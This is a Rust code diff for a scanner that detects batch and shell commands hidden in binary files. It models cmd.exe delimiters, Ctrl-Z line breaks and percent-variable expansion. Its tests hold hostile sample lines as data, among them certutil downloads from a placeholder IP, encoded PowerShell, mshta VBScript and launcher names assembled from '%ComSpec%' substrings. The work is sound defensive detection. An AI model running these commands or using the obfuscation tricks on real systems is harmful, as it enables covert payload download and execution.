@@ -176,6 +176,16 @@ pub fn find_shell_command(bytes: &[u8]) -> Option<Command> {
     }
 }
 
+/// Whether `sh`, given a file that starts with `bytes`, would read on past them: they
+/// hold no syntax error that ends it and no command it runs. A file read in windows is
+/// modelled from its start only (the parse state at a later window is not known), so
+/// its caller says the rest was not inspected for shell commands.
+pub fn shell_reads_past(bytes: &[u8]) -> bool {
+    let weak = |name: &[u8]| listed(&WEAK, name);
+    let wrapper = |name: &[u8]| listed(&WRAPPERS, name);
+    sh::reads_past(bytes, &is_strong, &weak, &wrapper)
+}
+
 /// Bytes of `:!` lines (an escape inside a line) handed to the shell model per file. Each
 /// candidate's line is modelled to its end, so a line of many `:!` would cost its length
 /// squared without a cap. Lines that start with `!` do not overlap (they cost at most the
@@ -595,7 +605,12 @@ fn shell_command(bytes: &[u8], at: usize) -> Command {
 /// whatever the first command was (the bytes of a DICOM header before it are a command
 /// that fails, and cmd.exe goes on).
 pub fn find_batch_command(bytes: &[u8]) -> Option<Command> {
+    let mut variables = Variables::default();
+    // cmd.exe reads a Ctrl-Z (0x1A) as a line feed when it reads a line to run: a line
+    // can start after one as after `\n` (searched second: a fourth byte would cost
+    // memchr its fast three-byte search over pixel data).
     memchr::memchr3_iter(b'\n', b'&', b'|', bytes)
+        .chain(memchr::memchr_iter(CTRL_Z, bytes))
         // Pixel data holds a separator every ~60 bytes; most are followed by a byte no
         // command starts with, turned away here in one look-up.
         .filter(|&separator| {
@@ -603,7 +618,17 @@ pub fn find_batch_command(bytes: &[u8]) -> Option<Command> {
                 .get(separator + 1)
                 .is_some_and(|&b| BATCH_COMMAND_START[usize::from(b)])
         })
-        .find_map(|separator| batch_command_at(bytes, separator + 1))
+        .find_map(|separator| batch_command_at(bytes, separator + 1, &mut variables))
+}
+
+/// Ctrl-Z, which cmd.exe reads as a line feed when it reads a batch file's lines.
+const CTRL_Z: u8 = 0x1A;
+
+/// cmd.exe's token delimiters (documented in the analyses of its parser): besides space
+/// and tab, `;`, `,`, `=`, vertical tab (0x0B), form feed (0x0C) and 0xFF. Any of them
+/// before a command's name is skipped as a blank is, and any of them ends the name.
+fn is_token_delimiter(b: u8) -> bool {
+    matches!(b, b' ' | b'\t' | b';' | b',' | b'=' | 0x0B | 0x0C | 0xFF)
 }
 
 /// The bytes a command [`batch_command_at`] can find starts with: what cmd.exe skips
@@ -613,7 +638,7 @@ pub fn find_batch_command(bytes: &[u8]) -> Option<Command> {
 /// starts with (a drive letter, `\\`, `%`).
 const BATCH_COMMAND_START: [bool; 256] = {
     let mut table = [false; 256];
-    let starts: &[u8] = b" \t\r@;,=(^\"cifCIF%\\";
+    let starts: &[u8] = b" \t\r@;,=(^\"cifCIF%\\\x0b\x0c\xff";
     let mut i = 0;
     while i < starts.len() {
         table[starts[i] as usize] = true;
@@ -638,13 +663,37 @@ const BATCH_COMMAND_START: [bool; 256] = {
 
 /// The command that starts at `at` (after a line's start or an operator), if its program
 /// is a Windows launcher.
-fn batch_command_at(bytes: &[u8], at: usize) -> Option<Command> {
+fn batch_command_at(bytes: &[u8], at: usize, variables: &mut Variables) -> Option<Command> {
     #[cfg(test)]
     tests::LOOKED_AT.with(|n| n.set(n.get() + 1));
     let line = bytes.get(at..)?;
     let skip = program_start(line);
     {
         let start = &line[skip..];
+        // cmd.exe expands `%...%` in a line before it reads the command's name from it:
+        // the name is judged as expanded (a copy of this one line, when the name has a
+        // `%`), and a name built from a substring or replacement, or from input, is
+        // known only when it runs.
+        let expanded;
+        let start = match expand_program_name(bytes, at + skip, start, variables) {
+            None => start,
+            Some(Expanded::Line(line)) => {
+                expanded = line;
+                &expanded[program_start(&expanded)..]
+            }
+            Some(Expanded::Built(how)) => {
+                let offset = at + skip;
+                return Some(Command {
+                    offset,
+                    interpreter: "batch",
+                    severity: Severity::Alert,
+                    detail: format!(
+                        "a Windows command line (\"{}\") whose program name cmd.exe builds from {how} when the file is started as a batch file: what it runs is known only then",
+                        line_excerpt(bytes, offset)
+                    ),
+                });
+            }
+        };
         // Most lines of binary data start with no launcher's first letter: one compare
         // instead of sixteen (a '\n' is one byte in 256 of pixel data).
         let first = start.first().map(u8::to_ascii_lowercase)?;
@@ -682,11 +731,16 @@ fn batch_command_at(bytes: &[u8], at: usize) -> Option<Command> {
                 continue;
             };
             let next = start.get(launcher.len()).copied();
-            let ends = matches!(next, Some(b' ' | b'\t' | b'\r' | b'\n')) || {
+            let name_ends = |b: Option<u8>| {
+                b.is_some_and(|b| matches!(b, b'\r' | b'\n') || is_token_delimiter(b))
+            };
+            let ends = name_ends(next) || {
                 // `powershell.exe`, `cmd.exe`
-                start[launcher.len()..]
-                    .get(..5)
-                    .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe "))
+                let after = &start[launcher.len()..];
+                after
+                    .get(..4)
+                    .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe"))
+                    && name_ends(after.get(4).copied())
             };
             if head.eq_ignore_ascii_case(launcher)
                 && ends
@@ -737,7 +791,7 @@ fn batch_command_at(bytes: &[u8], at: usize) -> Option<Command> {
 /// Each step moves forward, and the search stays within this command (to its `&`, `|`
 /// or line end, where the next candidate starts): linear over the bytes searched.
 fn program_start(line: &[u8]) -> usize {
-    let delimiter = |b: &u8| matches!(b, b' ' | b'\t' | b'\r' | b'@' | b';' | b',' | b'=' | b'(');
+    let delimiter = |b: &u8| is_token_delimiter(*b) || matches!(b, b'\r' | b'@' | b'(');
     // A word also ends at an operator or the line's end, where the next candidate
     // starts; the command's extent is only looked for after `if` and `for`.
     let word_ends = |b: &u8| delimiter(b) || matches!(b, b'&' | b'|' | b'\n');
@@ -859,18 +913,24 @@ fn past_for_do(command: &[u8], from: usize) -> Option<usize> {
 fn program_by_path(start: &[u8]) -> Option<Vec<u8>> {
     let quoted = start.first() == Some(&b'"');
     let body = if quoted { &start[1..] } else { start };
-    let line_end = memchr::memchr(b'\n', body).unwrap_or(body.len());
+    // The name ends at its closing quote or the line's end (quoted), or at a delimiter
+    // or an operator; the rest of the command at its operator or the line's end. No read
+    // passes the next place a candidate command starts: a line of `&\&\&\...` was read
+    // to its end from each `&` (400 KB took five seconds, a 64 MiB window hours).
     let end = if quoted {
-        memchr::memchr(b'"', &body[..line_end]).unwrap_or(line_end)
+        memchr::memchr2(b'"', b'\n', body).unwrap_or(body.len())
     } else {
-        body[..line_end]
-            .iter()
-            .position(|b| matches!(b, b' ' | b'\t' | b'\r' | b'&' | b'|' | b'<' | b'>' | b'"'))
-            .unwrap_or(line_end)
+        body.iter()
+            .position(|&b| {
+                is_token_delimiter(b)
+                    || matches!(b, b'\r' | b'\n' | b'&' | b'|' | b'<' | b'>' | b'"')
+            })
+            .unwrap_or(body.len())
     };
     let name = &body[..end];
-    let rest = &body[(end + usize::from(quoted && end < line_end)).min(line_end)..];
-    let rest = &rest[..memchr::memchr(b'\n', rest).map_or(rest.len(), |n| n + 1)];
+    let after = end + usize::from(quoted && body.get(end) == Some(&b'"'));
+    let rest = &body[after..];
+    let rest = &rest[..memchr::memchr3(b'\n', b'&', b'|', rest).map_or(rest.len(), |n| n + 1)];
     if name.eq_ignore_ascii_case(b"%comspec%") {
         return Some([&b"cmd"[..], rest].concat());
     }
@@ -894,13 +954,17 @@ fn unescaped_program_name(start: &[u8]) -> Option<Vec<u8>> {
     // word running over them would be read again from each (quadratic in `p&p&p&...`).
     let word_end = start
         .iter()
-        .position(|b| matches!(b, b' ' | b'\t' | b'\r' | b'\n' | b'&' | b'|' | b'<' | b'>'))
+        .position(|&b| {
+            is_token_delimiter(b) || matches!(b, b'\r' | b'\n' | b'&' | b'|' | b'<' | b'>')
+        })
         .unwrap_or(start.len());
     let word = &start[..word_end];
     if !word.iter().any(|b| matches!(b, b'^' | b'"')) {
         return None;
     }
-    let line = &start[..memchr::memchr(b'\n', start).map_or(start.len(), |n| n + 1)];
+    // To the command's end (its operator or the line's end), not past the next place a
+    // candidate starts: linear however many `&^` a line holds.
+    let line = &start[..memchr::memchr3(b'\n', b'&', b'|', start).map_or(start.len(), |n| n + 1)];
     let mut out = Vec::with_capacity(line.len());
     let mut escaped = false;
     for &b in word {
@@ -915,6 +979,312 @@ fn unescaped_program_name(start: &[u8]) -> Option<Vec<u8>> {
     }
     out.extend_from_slice(&line[word_end..]);
     Some(out)
+}
+
+/// Variables a batch file sets (`set NAME=value`), read once per search, on the first
+/// command name that expands one; more than this many are not kept, and a name that
+/// expands a variable not kept is then reported as built (more, never less).
+pub const MAX_BATCH_VARIABLES: usize = 1024;
+/// Bytes of a variable's name and value kept: a command's name and first argument.
+const BATCH_VARIABLE_KEPT: usize = 256;
+
+/// Environment variables Windows sets, which a batch file uses without setting them:
+/// kept as written (`%SystemRoot%\System32\cmd.exe` is a path [`program_by_path`]
+/// reads), where a variable nothing sets expands to nothing in a batch file; a substring
+/// or replacement of one of them (`%ComSpec:~-7,3%` is `cmd`) builds a name.
+const WINDOWS_VARIABLES: [&[u8]; 26] = [
+    b"comspec",
+    b"path",
+    b"pathext",
+    b"os",
+    b"processor_architecture",
+    b"processor_identifier",
+    b"computername",
+    b"username",
+    b"userdomain",
+    b"commonprogramfiles",
+    b"psmodulepath",
+    b"systemroot",
+    b"windir",
+    b"systemdrive",
+    b"programfiles",
+    b"programfiles(x86)",
+    b"programdata",
+    b"allusersprofile",
+    b"public",
+    b"userprofile",
+    b"appdata",
+    b"localappdata",
+    b"temp",
+    b"tmp",
+    b"homedrive",
+    b"homepath",
+];
+
+/// The `set` commands of a file, read when first needed.
+#[derive(Default)]
+struct Variables {
+    read: bool,
+    /// Where each was set, its lower-case name and its value (`None`: read from input,
+    /// `set /p`), in file order.
+    set: Vec<(usize, Vec<u8>, Option<Vec<u8>>)>,
+    /// More `set` commands than [`MAX_BATCH_VARIABLES`] were found.
+    full: bool,
+}
+
+impl Variables {
+    /// The value `name` (lower case) holds at offset `at`: the last `set` before it.
+    fn at(&mut self, bytes: &[u8], name: &[u8], at: usize) -> Lookup<'_> {
+        if !self.read {
+            self.read(bytes);
+        }
+        match self
+            .set
+            .iter()
+            .rev()
+            .find(|(offset, set, _)| *offset < at && set == name)
+        {
+            Some((_, _, Some(value))) => Lookup::Value(value),
+            Some((_, _, None)) => Lookup::FromInput,
+            None if self.full => Lookup::NotKept,
+            None => Lookup::Unset,
+        }
+    }
+
+    fn read(&mut self, bytes: &[u8]) {
+        self.read = true;
+        let starts = std::iter::once(0).chain(
+            memchr::memchr3_iter(b'\n', b'&', b'|', bytes)
+                .chain(memchr::memchr_iter(CTRL_Z, bytes))
+                .map(|separator| separator + 1)
+                // `s` and what is skipped before a name are among these bytes.
+                .filter(|&start| {
+                    bytes
+                        .get(start)
+                        .is_some_and(|&b| BATCH_COMMAND_START[usize::from(b)])
+                }),
+        );
+        for start in starts {
+            let Some(line) = bytes.get(start..) else {
+                continue;
+            };
+            let at = program_start(line);
+            let Some((name, value)) = set_command(&line[at..]) else {
+                continue;
+            };
+            if self.set.len() >= MAX_BATCH_VARIABLES {
+                self.full = true;
+                return;
+            }
+            self.set.push((start + at, name, value));
+        }
+        self.set.sort_by_key(|(offset, _, _)| *offset);
+    }
+}
+
+enum Lookup<'v> {
+    Value(&'v [u8]),
+    FromInput,
+    NotKept,
+    Unset,
+}
+
+/// `set NAME=value`, `set "NAME=value"` or `set /p NAME=prompt` at the start of
+/// `command`: the name (lower case) and the value as cmd.exe stores it (carets removed;
+/// `None` for `/p`, whose value is read from input). `set /a` (arithmetic) is no name.
+fn set_command(command: &[u8]) -> Option<(Vec<u8>, Option<Vec<u8>>)> {
+    let keyword = command.get(..3)?;
+    if !keyword.eq_ignore_ascii_case(b"set") || !is_token_delimiter(*command.get(3)?) {
+        return None;
+    }
+    let line_end = memchr::memchr(b'\n', command).unwrap_or(command.len());
+    let mut rest = &command[3..line_end];
+    rest = &rest[rest.iter().take_while(|&&b| is_token_delimiter(b)).count()..];
+    let mut from_input = false;
+    if rest.len() >= 2 && rest[0] == b'/' {
+        match rest[1].to_ascii_lowercase() {
+            b'p' => from_input = true,
+            _ => return None,
+        }
+        rest = &rest[2..];
+        rest = &rest[rest.iter().take_while(|&&b| is_token_delimiter(b)).count()..];
+    }
+    let quoted = rest.first() == Some(&b'"');
+    if quoted {
+        rest = &rest[1..];
+        // `set "a=b" & x`: the value ends at the last quote.
+        rest = &rest[..memchr::memrchr(b'"', rest).unwrap_or(rest.len())];
+    } else {
+        rest = &rest[..memchr::memchr3(b'&', b'|', b'\r', rest).unwrap_or(rest.len())];
+    }
+    let eq = memchr::memchr(b'=', rest)?;
+    let name: Vec<u8> = rest[..eq.min(BATCH_VARIABLE_KEPT)].to_ascii_lowercase();
+    if name.is_empty() {
+        return None;
+    }
+    if from_input {
+        return Some((name, None));
+    }
+    let mut value = Vec::new();
+    let mut escaped = false;
+    for &b in rest[eq + 1..].iter().take(BATCH_VARIABLE_KEPT) {
+        if b == b'^' && !escaped && !quoted {
+            escaped = true;
+            continue;
+        }
+        escaped = false;
+        value.push(b);
+    }
+    Some((name, Some(value)))
+}
+
+/// A command's name as cmd.exe's percent expansion leaves it.
+enum Expanded {
+    /// The line, with the expansions in its first word done.
+    Line(Vec<u8>),
+    /// The name is built from what is known only when it runs: how, said in a finding.
+    Built(String),
+}
+
+/// The line at `start` (at `at` in `bytes`) with the `%` expansions of its first word
+/// done as cmd.exe does them in a batch file, or `None` when the first word has no `%`:
+/// `%%` is `%`, `%1`..`%9` and `%*` are the (absent) arguments, `%NAME%` is the value the
+/// file last set before the line, a Windows variable as written, and nothing when unset;
+/// a substring or replacement (`%NAME:~0,1%`, `%NAME:a=b%`) or a value read from input
+/// builds the name ([`Expanded::Built`]).
+fn expand_program_name(
+    bytes: &[u8],
+    at: usize,
+    start: &[u8],
+    variables: &mut Variables,
+) -> Option<Expanded> {
+    // Each step reads forward only, and no read passes the next place a candidate
+    // command starts (an operator or a line end ends the word, the command and the copy;
+    // a variable's body ends at the next `%`): linear over the bytes searched, however
+    // many candidates a line of `&%&%...` makes.
+    let ends_word =
+        |b: u8| is_token_delimiter(b) || matches!(b, b'\r' | b'\n' | b'&' | b'|' | b'<' | b'>');
+    let first_word = start
+        .iter()
+        .position(|&b| ends_word(b))
+        .unwrap_or(start.len());
+    if !start[..first_word].contains(&b'%') {
+        return None;
+    }
+    // The command after the name, to its operator or line end (kept for its arguments).
+    let rest_of = |from: usize| {
+        let rest = &start[from..];
+        &rest[..memchr::memchr3(b'\n', b'&', b'|', rest).map_or(rest.len(), |n| n + 1)]
+    };
+    let mut out = Vec::new();
+    let mut i = 0;
+    while let Some(&b) = start.get(i) {
+        if b != b'%' {
+            if ends_word(b) {
+                break;
+            }
+            out.push(b);
+            i += 1;
+            continue;
+        }
+        let p = i;
+        match start.get(p + 1) {
+            Some(b'%') => {
+                out.push(b'%');
+                i = p + 2;
+                continue;
+            }
+            Some(b) if b.is_ascii_digit() || *b == b'*' => {
+                i = p + 2; // an argument: none when the file is started
+                continue;
+            }
+            _ => {}
+        }
+        // A variable runs to the next `%` on the line, delimiters and all.
+        let close = memchr::memchr(b'%', &start[p + 1..])
+            .map(|n| p + 1 + n)
+            .filter(|&close| memchr::memchr(b'\n', &start[p + 1..close]).is_none());
+        let Some(close) = close else {
+            i = p + 1; // a lone `%` is removed
+            continue;
+        };
+        let body = &start[p + 1..close];
+        if let Some(colon) = memchr::memchr(b':', body) {
+            // What runs is a program's name only if the bytes before it in the word are
+            // (a path, or nothing): binary bytes around a chance `%x:y=z%` name nothing.
+            let literal = out.iter().all(|b| b.is_ascii_graphic());
+            let name = &body[..colon];
+            let edit = expansion_edit(&body[colon + 1..]).filter(|_| literal);
+            let defined = is_variable_name(name) && {
+                let lower = name.to_ascii_lowercase();
+                WINDOWS_VARIABLES.contains(&&lower[..])
+                    || matches!(variables.at(bytes, &lower, at), Lookup::Value(_))
+            };
+            match edit {
+                Some(how) if defined => return Some(Expanded::Built(how.to_owned())),
+                // An edit of a variable nothing sets: cmd.exe drops `%NAME:` and reads on
+                // from the edit's text (a Python `"%s:\n--x=%s"` is no command).
+                Some(_) => i = p + 1 + colon + 1,
+                None => i = close + 1, // no edit cmd.exe reads: nothing a name is built from
+            }
+            continue;
+        }
+        i = close + 1;
+        if !is_variable_name(body) {
+            continue; // no variable a file sets: nothing, in a batch file
+        }
+        let name = body.to_ascii_lowercase();
+        match variables.at(bytes, &name, at) {
+            Lookup::Value(value) => out.extend_from_slice(value),
+            Lookup::FromInput => {
+                return Some(Expanded::Built(format!(
+                    "the variable {} read from input (set /p)",
+                    escape_bytes(body)
+                )));
+            }
+            Lookup::NotKept => {
+                return Some(Expanded::Built(format!(
+                    "the variable {}, one of more than {MAX_BATCH_VARIABLES} the file sets (MAX_BATCH_VARIABLES)",
+                    escape_bytes(body)
+                )));
+            }
+            Lookup::Unset if WINDOWS_VARIABLES.contains(&&name[..]) => {
+                out.extend_from_slice(&start[p..=close]);
+            }
+            Lookup::Unset => {} // unset: nothing, in a batch file
+        }
+    }
+    out.extend_from_slice(rest_of(i));
+    Some(Expanded::Line(out))
+}
+
+/// A variable's name as batch files write them: letters, digits and `_ . $ # @ ( ) -`
+/// (`ProgramFiles(x86)`), at most [`BATCH_VARIABLE_KEPT`] bytes.
+fn is_variable_name(name: &[u8]) -> bool {
+    !name.is_empty()
+        && name.len() <= BATCH_VARIABLE_KEPT
+        && name
+            .iter()
+            .all(|b| b.is_ascii_alphanumeric() || b"_.$#@()-".contains(b))
+}
+
+/// The edit after the `:` of `%NAME:...%`, if cmd.exe reads one there: a substring
+/// (`~n` or `~n,m`, numbers possibly negative) or a replacement (`a=b`, printable).
+fn expansion_edit(edit: &[u8]) -> Option<&'static str> {
+    if let Some(range) = edit.strip_prefix(b"~") {
+        let number = |n: &[u8]| {
+            let digits = n.strip_prefix(b"-").unwrap_or(n);
+            !digits.is_empty() && digits.len() <= 10 && digits.iter().all(u8::is_ascii_digit)
+        };
+        let ok = match memchr::memchr(b',', range) {
+            Some(comma) => number(&range[..comma]) && number(&range[comma + 1..]),
+            None => number(range),
+        };
+        return ok.then_some("a substring of a variable (%NAME:~n,m%)");
+    }
+    let eq = memchr::memchr(b'=', edit)?;
+    (eq > 0 && edit.iter().all(|b| (b' '..=b'~').contains(b)))
+        .then_some("a replacement in a variable (%NAME:a=b%)")
 }
 
 fn line_excerpt(bytes: &[u8], at: usize) -> String {
@@ -1049,7 +1419,7 @@ mod tests {
             }
             for line in lines {
                 let text = [&b"x\n"[..], &[b], line].concat();
-                if batch_command_at(&text, 2).is_some() {
+                if batch_command_at(&text, 2, &mut Variables::default()).is_some() {
                     assert!(
                         BATCH_COMMAND_START[usize::from(b)],
                         "{b:#x} before {line:?}"
@@ -1196,6 +1566,113 @@ mod tests {
                 String::from_utf8_lossy(text)
             );
         }
+    }
+
+    /// cmd.exe's token delimiters include vertical tab, form feed and 0xFF besides blanks
+    /// and `;,=`; a line may start with any of them, and any ends a program's name.
+    /// Ctrl-Z is read as a line feed. Each line ran PowerShell or certutil and got no
+    /// alert (issue 10).
+    #[test]
+    fn lines_starting_with_any_token_delimiter_or_after_ctrl_z_are_batch_commands() {
+        for line in [
+            &b"\x02\x00\r\n\x0bpowershell -nop -c iex(x)\r\n"[..],
+            b"\x02\x00\r\n\x0cpowershell -nop -c iex(x)\r\n",
+            b"\x02\x00\r\n\xffpowershell -nop -c iex(x)\r\n",
+            b"\x02\x00\r\n\x0b\x0c\xff;,=certutil -urlcache -f http://203.0.113.7/a a\r\n",
+            b"\x02\x00\x1acertutil -urlcache -f http://203.0.113.7/a a\r\n",
+            b"x\npowershell\x0b-enc ZQBjAGgAbwA=\n",
+            b"x\npowershell.exe\xff-enc ZQBjAGgAbwA=\n",
+            b"x\ncertutil,-urlcache -f http://203.0.113.7/a a\n",
+        ] {
+            assert!(
+                find_batch_command(line).is_some(),
+                "{}",
+                String::from_utf8_lossy(line)
+            );
+        }
+        // A name that only starts like a launcher is none, whatever ends it.
+        assert_eq!(find_batch_command(b"x\n\x0bcertutilities\x0b\n"), None);
+    }
+
+    /// cmd.exe expands `%...%` in a line before it reads the command's name: a name made
+    /// of a substring or replacement of a variable (`%ComSpec:~-7,3%` is `cmd`), of a
+    /// variable the file sets (`set p=powershell` then `%p% -enc ...`), or with a variable
+    /// nothing sets (empty in a batch file) was no command here (issue 10).
+    #[test]
+    fn percent_expansion_builds_the_command_name_as_cmd_reads_it() {
+        for line in [
+            &b"x\n%ComSpec:~-7,3% /c calc\n"[..],
+            b"x\n%comspec:~-16,1%%comspec:~-13,1%%comspec:~-12,1% x\n",
+            b"x\n%PATH:a=b% x\n",
+            b"x\nset p=powershell\r\n%p% -enc ZQBjAGgAbwA=\r\n",
+            b"x\nset \"a=power\" & set b=sh^ell\n%a%%b% -nop -c iex(x)\n",
+            b"x\nSET /P p=\n%P% x\n",
+            b"x\npow%nothing%ershell -nop -c iex(x)\n",
+            b"x\n%undefined%certutil -urlcache -f http://203.0.113.7/a a\n",
+            b"x\n@%%x%%\nset x=mshta\n\n@%x% vbscript:Execute(x)\n",
+        ] {
+            assert!(
+                find_batch_command(line).is_some(),
+                "{}",
+                String::from_utf8_lossy(line)
+            );
+        }
+        for line in [
+            // Set after the line that uses it, set to no launcher, a Windows variable
+            // kept as written, a percentage in prose.
+            &b"x\n%p% -enc ZQBjAGgAbwA=\nset p=powershell\n"[..],
+            b"x\nset p=notepad\n%p% readme.txt\n",
+            b"x\n%TEMP%\\report.txt\n",
+            b"x\n%50 of the lesion, 20% enhancing\n",
+            b"x\n100%% confidence\n",
+            b"x\n\"%s:\\n--hash=%s:%s\" % (path, x)\n",
+            b"x\n%undefined:~0,1%x\n",
+        ] {
+            assert_eq!(
+                find_batch_command(line),
+                None,
+                "{}",
+                String::from_utf8_lossy(line)
+            );
+        }
+        // `%SystemRoot%\...` is still read as the path it is.
+        assert!(find_batch_command(b"x\n%SystemRoot%\\System32\\cmd.exe /c calc\n").is_some());
+    }
+
+    /// MAX_BATCH_VARIABLES at its value: a file with that many `set` commands has each
+    /// kept (its launcher found, and an unknown name expands to nothing); one more, and
+    /// a name expanding a variable not kept is reported as built, naming the limit.
+    #[test]
+    fn batch_variables_are_kept_to_their_limit_and_past_it_reported() {
+        let file = |sets: usize| {
+            let mut file = b"x\n".to_vec();
+            for n in 0..sets - 1 {
+                file.extend_from_slice(format!("set v{n}=1\n").as_bytes());
+            }
+            file.extend_from_slice(b"set p=powershell\n%q%%p% -nop -c iex(x)\n");
+            file
+        };
+        let at = find_batch_command(&file(MAX_BATCH_VARIABLES)).expect("found");
+        assert_eq!(at.interpreter, "powershell", "{at:?}");
+        let over = find_batch_command(&file(MAX_BATCH_VARIABLES + 1)).expect("found");
+        assert!(over.detail.contains("MAX_BATCH_VARIABLES"), "{over:?}");
+    }
+
+    /// Lines of candidates with no line end (`&\&\...`, `&^&^...`, `&"&"...`, `&%&%...`):
+    /// each candidate's reads stop at the next candidate, so a search over them is linear.
+    /// Reads to the line's end from every `&` made 400 KB of them take five seconds (a
+    /// 64 MiB window, hours); these are four times that (read to the line's end, each
+    /// would take over a minute).
+    #[test]
+    fn candidates_on_one_long_line_are_each_read_to_the_next_only() {
+        for unit in [&b"&\\"[..], b"&^", b"&\"", b"&%", b"&%a", b"&C:"] {
+            let input = unit.repeat(800_000);
+            assert_eq!(find_batch_command(&input), None);
+        }
+        // The same shapes still find what follows them.
+        let mut line = b"&\\".repeat(1000);
+        line.extend_from_slice(b"&\"C:\\Windows\\System32\\cmd.exe\" /c calc\n");
+        assert!(find_batch_command(&line).is_some());
     }
 
     #[test]
